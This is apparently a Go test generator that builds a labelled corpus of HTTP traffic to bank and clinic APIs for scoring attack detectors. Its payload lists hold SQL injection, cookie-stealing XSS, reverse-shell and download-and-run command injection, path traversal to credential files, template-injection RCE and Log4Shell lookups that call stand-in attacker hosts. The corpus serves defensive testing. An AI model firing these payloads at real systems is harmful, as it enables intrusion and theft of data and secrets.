package detect_test

// holdout2_gen_test.go generates a second, independent labelled corpus for the
// stateless technique detectors (testdata/holdout2). It was written from
// docs/detect.md and public knowledge of attack techniques only, without
// reading the detectors or the other corpora, so that scoring the detectors on
// it measures how they generalise.
//
//	go test ./detect/ -run TestHoldout2Generate -update-holdout2   # rewrite
//	go test ./detect/ -run TestHoldout2Generate                    # check
//
// The generator is deterministic: fixed times, fixed ids, a fixed-seed PRNG.

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/vigilsec/vigil"
)

var updateHoldout2 = flag.Bool("update-holdout2", false, "rewrite testdata/holdout2 from its generator")

const (
	h2Dir  = "testdata/holdout2"
	h2Bank = "api.bank.example"
	h2Clin = "api.clinic.example"

	h2SQLi    = "detect.injection.sqli"
	h2XSS     = "detect.injection.xss"
	h2Other   = "detect.injection.other"
	h2SSRF    = "detect.ssrf"
	h2JWT     = "detect.auth.jwt"
	h2Verbose = "detect.misconfig.verbose"
	h2Sens    = "detect.exposure.sensitive"
	h2Limits  = "detect.resource.limits"
)

// h2Base is the time of the first exchange.
var h2Base = time.Date(2026, 6, 1, 7, 30, 0, 0, time.UTC)

func TestHoldout2Generate(t *testing.T) {
	traffic, labels := h2Generate(t)
	writeOrCheckCorpus(t, h2Dir, *updateHoldout2, "go test ./detect/ -run TestHoldout2Generate -update-holdout2", traffic, labels)
}

// ---------------------------------------------------------------------------
// Generator plumbing

type h2Req struct {
	method, url string
	hdr         http.Header
	body        string
	bodySize    int64 // 0: len(body)
}

type h2Item struct {
	x      vigil.Exchange
	labels []string
}

type h2Gen struct {
	t     *testing.T
	items []h2Item
	n     int
	rng   uint64
}

// h2rand is a xorshift64* generator: fixed seed, fixed algorithm.
func (g *h2Gen) rand() uint64 {
	g.rng ^= g.rng >> 12
	g.rng ^= g.rng << 25
	g.rng ^= g.rng >> 27
	return g.rng * 2685821657736338717
}

func (g *h2Gen) intn(n int) int { return int(g.rand() % uint64(n)) }

func (g *h2Gen) pick(s []string) string { return s[g.intn(len(s))] }

// str returns n deterministic characters of alphabet.
func (g *h2Gen) str(alphabet string, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[g.intn(len(alphabet))]
	}
	return string(b)
}

const (
	h2Alnum  = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	h2Upper  = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
	h2Hex    = "0123456789abcdef"
	h2B64    = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	h2B64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
)

// Client addresses: the 192.0.2.0/24 documentation range, the 198.18.0.0/15
// benchmarking range, IPv6 documentation addresses and some public-looking
// networks.
func (g *h2Gen) client(attack bool) string {
	k := g.n
	port := 30000 + (k*7919)%30000
	switch {
	case attack && k%3 == 0:
		return fmt.Sprintf("185.220.101.%d:%d", 1+k%250, port)
	case attack && k%3 == 1:
		return fmt.Sprintf("45.155.205.%d:%d", 1+(k*7)%250, port)
	case k%7 == 0:
		return fmt.Sprintf("[2001:db8:4a1:%x::%x]:%d", k%16, 1+k%200, port)
	case k%5 == 0:
		return fmt.Sprintf("198.18.%d.%d:%d", k%20, 1+(k*13)%250, port)
	case k%3 == 0:
		return fmt.Sprintf("81.2.69.%d:%d", 1+(k*3)%250, port)
	default:
		return fmt.Sprintf("192.0.2.%d:%d", 1+(k*11)%250, port)
	}
}

var h2BenignUAs = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
	"BankApp/5.12.0 (iPhone; iOS 17.5; Scale/3.00)",
	"okhttp/4.12.0",
	"Dart/3.4 (dart:io)",
	"ClinicBooking/2.8.1 (Android 14; Pixel 8)",
	"Alamofire/5.9.1",
	"axios/1.7.2",
	"python-requests/2.32.3",
	"Go-http-client/2.0",
	"PostmanRuntime/7.39.0",
	"Apache-HttpClient/5.3.1 (Java/21.0.3)",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
}

var h2AttackUAs = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"sqlmap/1.8.5#stable (https://sqlmap.org)",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Nuclei",
	"Fuzz Faster U Fool v2.1.0-dev",
	"python-httpx/0.27.0",
	"Wfuzz/3.1.0",
	"curl/8.7.1",
	"Go-http-client/1.1",
	"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.1 Safari/605.1.15",
	"Dalfox/2.9.2",
	"commix/v4.0-stable",
}

func h2Header(kv ...string) http.Header {
	h := http.Header{}
	for i := 0; i+1 < len(kv); i += 2 {
		h.Add(kv[i], kv[i+1])
	}
	return h
}

// add records one exchange.
func (g *h2Gen) add(labels []string, r h2Req, status int, rh http.Header, rbody string) {
	g.t.Helper()
	u, err := url.Parse(r.url)
	if err != nil {
		g.t.Fatalf("holdout2: bad url %q: %v", r.url, err)
	}
	if r.hdr == nil {
		r.hdr = http.Header{}
	}
	// Request-side techniques come from attack tooling; leaks in responses
	// (verbose errors, sensitive data, CORS) are as often hit by ordinary
	// clients.
	attack := len(labels) > 0 && labels[0] != h2Verbose && labels[0] != h2Sens
	if len(labels) > 0 && !attack && g.n%2 == 0 {
		attack = true
	}
	if r.hdr.Get("User-Agent") == "" {
		if attack {
			r.hdr.Set("User-Agent", h2AttackUAs[g.n%len(h2AttackUAs)])
		} else {
			r.hdr.Set("User-Agent", h2BenignUAs[g.n%len(h2BenignUAs)])
		}
	}
	if r.hdr.Get("Accept") == "" {
		r.hdr.Set("Accept", "application/json")
	}
	r.hdr.Set("X-Request-Id", fmt.Sprintf("%08x-%04x-4%03x-a%03x-%012x", g.rand()&0xffffffff, g.rand()&0xffff, g.rand()&0xfff, g.rand()&0xfff, g.rand()&0xffffffffffff))
	size := r.bodySize
	if size == 0 {
		size = int64(len(r.body))
	}
	if rh == nil {
		rh = http.Header{}
	}
	if rh.Get("Content-Type") == "" && rbody != "" {
		rh.Set("Content-Type", "application/json; charset=utf-8")
	}
	if rh.Get("Server") == "" {
		rh.Set("Server", []string{"nginx", "envoy", "cloudflare", "Kestrel", "gunicorn", "openresty"}[g.n%6])
	}
	if g.n%4 != 3 {
		rh.Set("Strict-Transport-Security", "max-age=31536000; includeSubDomains")
		rh.Set("X-Content-Type-Options", "nosniff")
		rh.Set("Cache-Control", "no-store")
	}
	proto := []string{"HTTP/2.0", "HTTP/1.1", "HTTP/2.0"}[g.n%3]
	x := vigil.Exchange{
		Sensor: vigil.SensorJSONL,
		Client: vigil.Client{Addr: g.client(attack)},
		Request: vigil.Request{
			Method: r.method, URL: u, Proto: proto, Header: r.hdr,
			Body: []byte(r.body), BodySize: size, Truncated: size > int64(len(r.body)),
		},
		Response: &vigil.Response{
			Status: status, Proto: proto, Header: rh, Body: []byte(rbody), BodySize: int64(len(rbody)),
		},
		Duration: time.Duration(3+g.intn(400)) * time.Millisecond,
	}
	g.items = append(g.items, h2Item{x: x, labels: labels})
	g.n++
}

// h2J writes v as JSON without HTML escaping (most API clients do not escape <>&).
func h2J(v any) string {
	var b bytes.Buffer
	e := json.NewEncoder(&b)
	e.SetEscapeHTML(false)
	if err := e.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimSuffix(b.String(), "\n")
}

// h2JEsc writes v as JSON the way encoding/json does by default (\u003c for <).
func h2JEsc(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

type h2M = map[string]any

func h2Q(s string) string { return url.QueryEscape(s) }

// h2Q20 percent-encodes like encodeURIComponent (%20 for space).
func h2Q20(s string) string { return strings.ReplaceAll(url.QueryEscape(s), "+", "%20") }

func h2JSONHdr(h http.Header) http.Header {
	h.Set("Content-Type", "application/json")
	return h
}

// ---------------------------------------------------------------------------
// Tokens

func h2B64u(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

// h2Token makes a JWT from a header and claims (JSON key order as given by the
// maps, i.e. sorted) and a signature part.
func h2Token(hdr, claims h2M, sig string) string {
	return h2B64u(h2JEsc(hdr)) + "." + h2B64u(h2JEsc(claims)) + "." + sig
}

func h2HS256(hdr, claims h2M, secret string) string {
	s := h2B64u(h2JEsc(hdr)) + "." + h2B64u(h2JEsc(claims))
	m := hmac.New(sha256.New, []byte(secret))
	m.Write([]byte(s))
	return s + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
}

// h2FakeSig is a deterministic stand-in for an RSA/EC signature of n bytes.
func h2FakeSig(seed string, n int) string {
	var out []byte
	h := sha256.Sum256([]byte(seed))
	for len(out) < n {
		out = append(out, h[:]...)
		h = sha256.Sum256(h[:])
	}
	return base64.RawURLEncoding.EncodeToString(out[:n])
}

// h2ValidToken is a well-formed, unexpired token of one of several vendors.
func (g *h2Gen) validToken() string {
	k := g.n
	iat := h2Base.Add(-time.Duration(5+k%50) * time.Minute).Unix()
	exp := h2Base.Add(time.Duration(2+k%20) * time.Hour).Unix()
	sub := fmt.Sprintf("usr_%06d", 1000+(k*37)%90000)
	switch k % 4 {
	case 0:
		return h2HS256(h2M{"alg": "HS256", "typ": "JWT"},
			h2M{"sub": sub, "iat": iat, "exp": exp, "scope": "accounts:read transfers:write", "iss": "https://auth.bank.example"},
			"h2-benign-hmac-secret-not-real")
	case 1:
		c := h2M{"sub": sub, "iat": iat, "exp": exp, "iss": "https://auth.bank.example/", "aud": "api.bank.example", "azp": "mobile-ios"}
		h := h2M{"alg": "RS256", "typ": "JWT", "kid": "2026-05-rsa-01"}
		return h2Token(h, c, h2FakeSig(sub+"rs", 256))
	case 2:
		c := h2M{"sub": sub, "iat": iat, "exp": exp, "iss": "https://id.clinic.example/realms/patients", "typ": "Bearer", "preferred_username": "patient" + sub[4:], "realm_access": h2M{"roles": []string{"patient"}}}
		h := h2M{"alg": "RS256", "typ": "JWT", "kid": "Xk2m9qLw0pR7vT1sY4uZ"}
		return h2Token(h, c, h2FakeSig(sub+"kc", 256))
	default:
		c := h2M{"sub": sub, "iat": iat, "exp": exp, "nbf": iat, "iss": "https://id.clinic.example", "roles": []string{"practitioner"}}
		h := h2M{"alg": "ES256", "typ": "JWT", "kid": "ec-p256-2026q2"}
		return h2Token(h, c, h2FakeSig(sub+"ec", 64))
	}
}

// auth adds credentials as a real client would: mostly a bearer token, some
// API keys or session cookies.
func (g *h2Gen) auth(h http.Header) http.Header {
	switch g.n % 9 {
	case 4:
		h.Set("X-Api-Key", "pk_test_"+g.str(h2Alnum, 24))
	case 7:
		h.Set("Cookie", "sid="+g.str(h2Hex, 32)+"; theme=light; lang=en-GB")
	default:
		h.Set("Authorization", "Bearer "+g.validToken())
	}
	return h
}

// ---------------------------------------------------------------------------
// Request placement of injected values

// Locations a value can be placed in.
const (
	h2LocQuery = iota
	h2LocQuery20
	h2LocPath
	h2LocForm
	h2LocJSON
	h2LocJSONDeep
	h2LocJSONArray
	h2LocGraphQL
	h2LocUA
	h2LocReferer
	h2LocXFF
	h2LocCookie
	h2LocDouble
	h2LocAPIVersion
	h2LocMultipart
	h2LocSOAP
)

var h2QueryPaths = map[string][]string{
	h2Bank: {"/api/v1/transactions/search", "/v2/payees", "/api/v1/statements", "/api/v2/accounts/ACC-88213/transactions", "/v2/fx/quotes"},
	h2Clin: {"/api/v1/appointments", "/v2/practitioners/search", "/api/v1/slots", "/api/v1/patients/PT-55120/documents", "/v2/clinics"},
}

var h2PathTemplates = map[string][]string{
	h2Bank: {"/api/v1/accounts/%s/transactions", "/v2/cards/%s/limits", "/api/v1/payees/%s", "/v2/statements/%s/download"},
	h2Clin: {"/api/v1/patients/%s/appointments", "/v2/clinics/%s/practitioners", "/api/v1/documents/%s", "/v2/appointments/%s"},
}

var h2PostPaths = map[string][]string{
	h2Bank: {"/api/v1/transfers", "/v2/payees", "/api/v1/support/tickets", "/v2/standing-orders", "/api/v1/disputes"},
	h2Clin: {"/api/v1/appointments", "/v2/patients/PT-10442/notes", "/api/v1/intake-forms", "/v2/messages", "/api/v1/referrals"},
}

// inject places val under field at location loc of a request to host.
func (g *h2Gen) inject(loc int, host, field, val string) h2Req {
	k := g.n
	qp := h2QueryPaths[host][k%len(h2QueryPaths[host])]
	pp := h2PostPaths[host][k%len(h2PostPaths[host])]
	base := "https://" + host
	hdr := g.auth(http.Header{})
	if strings.ContainsAny(val, "\r\n\t") || !h2IsASCII(val) {
		switch loc {
		case h2LocUA, h2LocXFF, h2LocAPIVersion:
			loc = h2LocQuery
		}
	}
	// A payload the attacker already percent-encoded goes on the wire as
	// written; only its other special characters are encoded.
	q, q20, pe := h2Q, h2Q20, url.PathEscape
	if h2PreEncoded(val) {
		q, q20 = h2Keep(h2Q), h2Keep(h2Q20)
		pe = h2Keep(url.PathEscape)
		if strings.Contains(val, "%u") && loc == h2LocPath {
			loc = h2LocQuery // %uXXXX is not a valid escape in a URL path
		}
	}
	switch loc {
	case h2LocQuery:
		return h2Req{method: "GET", url: base + qp + "?" + field + "=" + q(val) + "&page=1", hdr: hdr}
	case h2LocQuery20:
		return h2Req{method: "GET", url: base + qp + "?limit=20&" + field + "=" + q20(val), hdr: hdr}
	case h2LocDouble:
		return h2Req{method: "GET", url: base + qp + "?" + field + "=" + h2Q(q20(val)), hdr: hdr}
	case h2LocPath:
		tpl := h2PathTemplates[host][k%len(h2PathTemplates[host])]
		return h2Req{method: "GET", url: base + fmt.Sprintf(tpl, pe(val)), hdr: hdr}
	case h2LocForm:
		hdr.Set("Content-Type", "application/x-www-form-urlencoded")
		body := "locale=en_GB&" + field + "=" + q(val) + "&submit=1"
		return h2Req{method: "POST", url: base + pp, hdr: hdr, body: body}
	case h2LocJSON:
		return h2Req{method: "POST", url: base + pp, hdr: h2JSONHdr(hdr), body: h2J(h2M{field: val, "currency": "EUR", "requestedAt": "2026-06-01T07:31:00Z"})}
	case h2LocJSONDeep:
		body := h2J(h2M{"data": h2M{"type": "search", "attributes": h2M{"filters": h2M{field: val, "status": []string{"posted", "pending"}}}}})
		return h2Req{method: "POST", url: base + pp, hdr: h2JSONHdr(hdr), body: body}
	case h2LocJSONArray:
		body := h2J(h2M{"items": []h2M{{field: "regular"}, {field: val}}, "batch_id": fmt.Sprintf("b-%d", 7000+k)})
		return h2Req{method: "PUT", url: base + pp + "/batch", hdr: h2JSONHdr(hdr), body: body}
	case h2LocGraphQL:
		body := h2J(h2M{"operationName": "Search", "query": "query Search($term: String!) { search(term: $term, first: 20) { edges { node { id displayName } } } }", "variables": h2M{"term": val}})
		return h2Req{method: "POST", url: base + "/graphql", hdr: h2JSONHdr(hdr), body: body}
	case h2LocUA:
		hdr.Set("User-Agent", val)
		return h2Req{method: "GET", url: base + qp, hdr: hdr}
	case h2LocReferer:
		hdr.Set("Referer", "https://app."+strings.TrimPrefix(host, "api.")+"/search?"+field+"="+q20(val))
		return h2Req{method: "GET", url: base + qp + "?page=2", hdr: hdr}
	case h2LocXFF:
		hdr.Set("X-Forwarded-For", val)
		return h2Req{method: "GET", url: base + qp, hdr: hdr}
	case h2LocCookie:
		hdr.Set("Cookie", "consent=1; "+field+"="+q(val)+"; _ga=GA1.2.1234567.1717200000")
		return h2Req{method: "GET", url: base + qp, hdr: hdr}
	case h2LocAPIVersion:
		hdr.Set("X-Api-Version", val)
		return h2Req{method: "GET", url: base + qp, hdr: hdr}
	case h2LocMultipart:
		b := "----WebKitFormBoundary7MA4YWxkTrZu0gW"
		hdr.Set("Content-Type", "multipart/form-data; boundary="+b)
		body := "--" + b + "\r\nContent-Disposition: form-data; name=\"" + field + "\"\r\n\r\n" + val + "\r\n--" + b +
			"\r\nContent-Disposition: form-data; name=\"category\"\r\n\r\nid-proof\r\n--" + b + "--\r\n"
		return h2Req{method: "POST", url: base + pp + "/upload", hdr: hdr, body: body}
	case h2LocSOAP:
		hdr.Set("Content-Type", "text/xml; charset=utf-8")
		hdr.Set("SOAPAction", "\"urn:bank:GetStatement\"")
		body := `<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:b="urn:bank"><soapenv:Body><b:GetStatement><b:` +
			field + `>` + h2XMLEsc(val) + `</b:` + field + `></b:GetStatement></soapenv:Body></soapenv:Envelope>`
		return h2Req{method: "POST", url: base + "/soap/v1/statements", hdr: hdr, body: body}
	}
	panic("bad location")
}

func h2IsHex(c byte) bool {
	return '0' <= c && c <= '9' || 'a' <= c && c <= 'f' || 'A' <= c && c <= 'F'
}

// h2EscapeAt reports the length of a percent escape (%XX or %uXXXX) at s[i:], or 0.
func h2EscapeAt(s string, i int) int {
	if s[i] != '%' {
		return 0
	}
	if i+2 < len(s) && h2IsHex(s[i+1]) && h2IsHex(s[i+2]) {
		return 3
	}
	if i+5 < len(s) && (s[i+1] == 'u' || s[i+1] == 'U') && h2IsHex(s[i+2]) && h2IsHex(s[i+3]) && h2IsHex(s[i+4]) && h2IsHex(s[i+5]) {
		return 6
	}
	return 0
}

// h2PreEncoded reports whether s carries percent escapes of its own.
func h2PreEncoded(s string) bool {
	for i := range len(s) {
		if h2EscapeAt(s, i) > 0 {
			return true
		}
	}
	return false
}

// h2Keep wraps an escaping function so that it leaves existing escapes alone.
func h2Keep(esc func(string) string) func(string) string {
	return func(s string) string {
		var b strings.Builder
		start := 0
		for i := 0; i < len(s); {
			if n := h2EscapeAt(s, i); n > 0 {
				b.WriteString(esc(s[start:i]))
				b.WriteString(s[i : i+n])
				i += n
				start = i
				continue
			}
			i++
		}
		b.WriteString(esc(s[start:]))
		return b.String()
	}
}

func h2IsASCII(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] >= 0x80 {
			return false
		}
	}
	return true
}

func h2XMLEsc(s string) string {
	var b strings.Builder
	if err := h2XMLEscapeTo(&b, s); err != nil {
		panic(err)
	}
	return b.String()
}

func h2XMLEscapeTo(b *strings.Builder, s string) error {
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", "\"", "&quot;", "'", "&apos;")
	_, err := b.WriteString(r.Replace(s))
	return err
}

// attackResponse is an unremarkable answer to an attack: no leak.
func (g *h2Gen) attackResponse() (int, http.Header, string) {
	switch g.n % 6 {
	case 0, 3:
		return 200, nil, `{"data":[],"meta":{"total":0,"page":1}}`
	case 1:
		return 400, nil, `{"error":"validation_failed","message":"one or more fields are invalid"}`
	case 2:
		return 500, nil, `{"error":"internal_error","requestId":"` + g.str(h2Hex, 16) + `"}`
	case 4:
		return 403, nil, `{"error":"forbidden"}`
	default:
		return 404, nil, `{"error":"not_found"}`
	}
}

// plant emits count exchanges carrying payloads, rotating through payloads,
// fields and locations.
func (g *h2Gen) plant(label string, count int, payloads, fields []string, locs []int) {
	for j := 0; j < count; j++ {
		p := payloads[j%len(payloads)]
		loc := locs[(j+j/len(payloads)*3)%len(locs)]
		field := fields[(j*5+j/len(payloads))%len(fields)]
		host := []string{h2Bank, h2Clin}[(j+j/len(payloads))%2]
		r := g.inject(loc, host, field, p)
		st, rh, rb := g.attackResponse()
		g.add([]string{label}, r, st, rh, rb)
	}
}

// ---------------------------------------------------------------------------
// SQL injection payloads

var h2SQLiPayloads = []string{
	// classic tautologies, with case and comment mutations
	"' oR '1'='1",
	"x' Or 1=1-- -",
	"admin'/**/OR/**/1=1#",
	"\") OR (\"a\"=\"a",
	"') or ('x'='x",
	"1 OR 1=1",
	"' OR 'x' LIKE 'x",
	"1' || '1'='1",
	"-1' OR 3*2*1=6 AND 000578=000578 -- ",
	"admin'-- ",
	// boolean blind (sqlmap style)
	"1 AnD 8571=8571",
	"1' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a",
	"1' AND ASCII(SUBSTR((SELECT banner FROM v$version WHERE ROWNUM=1),1,1))>64--",
	"1' RLIKE (SELECT (CASE WHEN (4412=4412) THEN 1 ELSE 0x28 END))-- zKpQ",
	// time based, several engines
	"1' AND SLEEP(5)-- x",
	"1) AND (SELECT 4152 FROM (SELECT(SLEEP(5)))aXtz)-- qZbw",
	"1'; WAITFOR DELAY '0:0:5'--",
	"1;SELECT pg_sleep(5)--",
	"1' AND 1=(SELECT 1 FROM PG_SLEEP(5))--",
	"0'XOR(if(now()=sysdate(),sleep(6),0))XOR'Z",
	"(select(0)from(select(sleep(6)))v)/*'+(select(0)from(select(sleep(6)))v)+'\"+(select(0)from(select(sleep(6)))v)+\"*/",
	"1' AND 7001=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))-- ",
	"1 AND 5713=DBMS_PIPE.RECEIVE_MESSAGE(CHR(107)||CHR(80),5)",
	// union based, with inline comments and MySQL versioned comments
	"' UNION SELECT NULL,NULL,NULL--",
	"-1 UNION ALL SELECT username,password_hash,NULL FROM users--",
	"1' UnIoN/**/SeLeCt/**/1,table_name,3/**/FrOm/**/information_schema.tables#",
	"1'/*!50000UNION*//*!50000SELECT*/1,2,3-- -",
	"0 union%0aselect 1,LOAD_FILE(0x2f6574632f706173737764),3",
	"1 ORDER BY 9-- -",
	// stacked queries
	"'; DROP TABLE accounts;--",
	"1; EXEC master..xp_cmdshell 'whoami'--",
	"1'; INSERT INTO users(email,role) VALUES('x@evil.example','admin')--",
	"1;UPDATE payees SET iban='DE89370400440532013000' WHERE 1=1;--",
	// error based
	"' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ",
	"' AND updatexml(null,concat(0x0a,user()),null)-- -",
	"1 AND 1=CONVERT(int,(SELECT @@version))",
	"' AND 1=CAST((SELECT current_database()) AS int)--",
	"' || (SELECT CASE WHEN (1=1) THEN TO_CHAR(1/0) ELSE NULL END FROM dual) || '",
	"1 GROUP BY 1,2,3 HAVING 1=1--",
	"'||(SELECT load_extension('x'))||'",
}

var h2SQLiFields = []string{"q", "payee", "sort", "accountId", "patient_name", "reference", "search", "memo", "orderBy", "practitionerId", "iban", "filter"}

// ---------------------------------------------------------------------------
// XSS payloads

var h2XSSPayloads = []string{
	// script tags with case and spacing mutations
	"<ScRiPt>prompt`1`</sCrIpT>",
	"<script/src=//evil.example/x.js></script>",
	"\"><script>fetch('//evil.example/c?'+document.cookie)</script>",
	// event handlers on many elements
	"<svg/onload=alert(document.domain)>",
	"<img src=x onerror=confirm(1)>",
	"<details open ontoggle=alert(1)>",
	"<body onpageshow=alert(1)>",
	"\"><svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	"<input autofocus onfocus=alert(1)>",
	"<video><source onerror=alert(1)>",
	"<marquee onstart=alert(1)>hi</marquee>",
	"<x onauxclick=alert(1)>right click me",
	"<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
	"'><iMg SrC=x OnErRoR=window['al'+'ert'](1)>",
	"<svg><set attributeName=onmouseover to=alert(1)>",
	"<audio src/onerror=alert(1)>",
	"<select autofocus onfocus=alert(1)>",
	"<textarea autofocus onfocus=alert(1)>",
	// javascript:, vbscript:, data: URLs
	"javascript:alert(document.cookie)",
	"JaVaScRiPt:/**/alert(1)",
	" javascript:alert(1)",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"vbscript:msgbox(1)",
	"<a href=\"javascript:alert(1)\">statement</a>",
	"<iframe src=\"javascript:alert(1)\">",
	"<form><button formaction=javascript:alert(1)>pay",
	"<embed src=javascript:alert(1)>",
	"<object data=\"data:text/html,<script>alert(1)</script>\">",
	"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
	"<iframe srcdoc=\"<script>alert(1)</script>\">",
	// mutation XSS, SVG and polyglots
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a>",
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"<svg><script href=data:,alert(1) />",
	"<isindex type=image src=1 onerror=alert(1)>",
}

var h2XSSFields = []string{"comment", "displayName", "note", "description", "redirect_url", "title", "nickname", "message", "bio", "returnTo", "subject", "label"}

// ---------------------------------------------------------------------------
// Other injection: command injection, path traversal, SSTI, Log4Shell, NoSQL

// OS command injection: separators, $IFS, backticks, $(), newline, brace
// expansion, quoting tricks, Windows.
var h2CmdPayloads = []string{
	"8.8.8.8; id",
	"127.0.0.1|cat /etc/passwd",
	"`id`",
	"$(whoami)",
	"x && uname -a",
	"x || ping -c 3 192.0.2.66",
	"invoice.pdf\nid",
	";cat${IFS}/etc/passwd",
	"$(curl${IFS}http://x7k2.oast.fun/$(whoami))",
	";{cat,/etc/passwd}",
	"| nslookup q1w2e3.burpcollaborator.net",
	"a';wget http://192.0.2.66/s.sh -O /tmp/s;sh /tmp/s;'",
	"& ping -n 5 127.0.0.1 &",
	"| type C:\\Windows\\win.ini",
	";/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.66/4444 0>&1'",
	"`echo${IFS}aWQ=|base64${IFS}-d|sh`",
	";w'h'o'am'i",
	";c\\at /et\\c/pas\\swd",
	"|powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://192.0.2.66/a')\"",
	"report.csv;sleep 10",
}

// Path traversal: plain, URL-encoded, double-encoded, overlong UTF-8, %u,
// backslashes, filter-evasion doubling, Tomcat ..;/ and sensitive targets.
var h2TraversalPayloads = []string{
	"../../../../etc/passwd",
	"..%2f..%2f..%2f..%2fetc%2fshadow",
	"%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/hosts",
	"..%252f..%252f..%252fetc%252fpasswd",
	"..%c0%af..%c0%af..%c0%afetc/passwd",
	"....//....//....//etc/passwd",
	"..\\..\\..\\..\\windows\\win.ini",
	"..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
	"%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
	"..;/..;/..;/WEB-INF/web.xml",
	"../../../../proc/self/environ",
	"../../../../../root/.ssh/id_rsa",
	"statements/../../../../app/.env",
	"/var/www/html/../../../etc/passwd",
	"..%00/..%00/..%00/etc/passwd",
	"....\\/....\\/....\\/etc/group",
}

// Server-side template injection: Jinja2, Twig, Freemarker, Velocity, ERB,
// Thymeleaf/SpEL, Mako, Smarty, EJS.
var h2SSTIPayloads = []string{
	"{{7*'7'}}",
	"{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
	"{{''.__class__.__mro__[1].__subclasses__()}}",
	"{{lipsum.__globals__.os.popen('id').read()}}",
	"{{cycler.__init__.__globals__.os.popen('cat /etc/passwd').read()}}",
	"{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
	"{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
	"{{['id']|filter('system')}}",
	"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
	"${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}",
	"#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$x",
	"#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
	"<%= `id` %>",
	"<%= File.open('/etc/passwd').read %>",
	"__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
	"[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
	"*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
	"${self.module.cache.util.os.system(\"id\")}",
	"{system('cat /etc/passwd')}",
	"<%- global.process.mainModule.require('child_process').execSync('id') %>",
}

// Log4Shell / JNDI lookups with the common obfuscations.
var h2Log4jPayloads = []string{
	"${jndi:ldap://x9f3.oast.pro/a}",
	"${${lower:j}ndi:${lower:l}dap://192.0.2.66:1389/Exploit}",
	"${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://log.evil.example/o}",
	"${jndi:dns://d8s7.interact.sh}",
	"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/z}",
	"${j${k8s:k5:-ND}i:ldap://evil.example/k}",
	"${${upper:j}ndi:ldaps://evil.example:636/u}",
	"${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/x}",
	"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/d}",
	"${jndi:rmi://192.0.2.66:1099/obj}",
	"${jndi:iiop://evil.example/i}",
	"${${sys:foo:-j}ndi:ldap://evil.example/${env:AWS_SECRET_ACCESS_KEY}}",
}

// NoSQL operator injection (MongoDB) in form/query bracket syntax; JSON
